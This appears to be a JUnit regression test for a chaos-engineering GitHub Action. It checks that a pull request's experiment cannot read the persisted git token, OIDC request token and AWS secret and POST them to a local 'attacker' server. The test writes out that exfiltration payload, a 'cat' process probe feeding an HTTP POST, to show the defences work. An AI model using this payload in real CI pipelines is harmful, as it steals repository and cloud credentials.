package dev.chaosaction.action;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.chaosaction.testing.LocalServer;
import dev.chaosaction.testing.LocalServer.Reply;
import dev.chaosaction.value.Json;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 11, Critical: remote code execution from a pull request. The workflow runs the action on a pull request's
 * experiment; the checkout persisted its token in {@code .git/config}, the job has an OIDC request token and AWS
 * credentials. The experiment reads the token with a process probe and posts it, with the other two, through an
 * HTTP tolerance probe to a logging server on loopback. With the action's defaults nothing reaches that server.
 */
class UntrustedExperimentTest {
    private static final String PERSISTED = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3BlcnNpc3RlZA==";
    private static final String OIDC = "oidc-request-token-value";
    private static final String AWS = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

    @TempDir
    Path temp;

    private final LocalServer attacker = new LocalServer().reply("/collect", Reply.text(200, "thanks"));

    @AfterEach
    void stop() {
        attacker.close();
    }

    /** The pull request's workspace and the job's secrets; {@code headers} are the tolerance's headers. */
    private ActionProcess job(String configuration, String headers) throws Exception {
        ActionProcess action = new ActionProcess(temp)
                .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", OIDC)
                .env("ACTIONS_ID_TOKEN_REQUEST_URL", "http://127.0.0.1:1/token")
                .env("AWS_SECRET_ACCESS_KEY", AWS)
                .env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE")
                // As the action's defaults leave them: the workflow sets neither.
                .input("allowed-providers", "").input("egress-allow", "")
                .input("experiment", "chaos/pr.json");
        Path gitConfig = action.file(".git/config", "[http \"https://github.com/\"]\n\textraheader = " + PERSISTED + "\n");
        action.file("chaos/pr.json", """
                {"title": "harmless", "description": "d", "configuration": %s,
                 "steady-state-hypothesis": {"title": "h", "probes": [{"type": "probe", "name": "read",
                   "provider": {"type": "process", "path": "cat", "arguments": [%s]},
                   "tolerance": {"type": "probe", "name": "send", "provider": {"type": "http", "method": "POST",
                     "url": "%s", "headers": %s, "arguments": {}}}}]},
                 "method": []}""".formatted(configuration, Json.write(gitConfig.toString()),
                attacker.url("/collect"), headers));
        return action;
    }

    private void assertNothingSent(ActionProcess.Result result) {
        assertEquals(List.of(), attacker.requests(), "the logging server received: " + attacker.requests());
        assertTrue(!result.stdout().contains(OIDC) && !result.stdout().contains(AWS), result.stdout());
    }

    @Test
    void withTheDefaultsThePullRequestsExperimentIsRefusedAndNothingLeaves() throws Exception {
        ActionProcess.Result result = job("""
                {"oidc": {"type": "env", "key": "ACTIONS_ID_TOKEN_REQUEST_TOKEN"},
                 "aws": {"type": "env", "key": "AWS_SECRET_ACCESS_KEY"}}""",
                "{\"X-Oidc\": \"${oidc}\", \"X-Aws\": \"${aws}\"}").run();

        assertEquals(2, result.exitCode(), result.stdout() + result.stderr());
        assertEquals("invalid", result.outputs().get("status"));
        assertTrue(result.stdout().contains("/steady-state-hypothesis/probes/0/provider/type"), result.stdout());
        assertTrue(result.stdout().contains("/configuration/oidc"), result.stdout());
        assertTrue(result.stdout().contains("/configuration/aws"), result.stdout());
        assertNothingSent(result);
    }

    @Test
    void evenWithProcessesAllowedTheTokensStayUnreadableAndLoopbackUnreachable() throws Exception {
        ActionProcess refused = job("""
                {"oidc": {"type": "env", "key": "ACTIONS_ID_TOKEN_REQUEST_TOKEN"}}""",
                "{\"X-Oidc\": \"${oidc}\"}").input("allowed-providers", "http,python,process");
        ActionProcess.Result invalid = refused.run();
        assertEquals(2, invalid.exitCode(), invalid.stdout());
        assertNothingSent(invalid);

        ActionProcess.Result ran = job("{}", "{}").input("allowed-providers", "http,python,process").run();
        // The tolerance probe's POST is refused, so the tolerance is not met: the method never runs.
        assertTrue(ran.stdout().contains("the steady state was not met before the method"), ran.stdout());
        assertNothingSent(ran);
    }
}
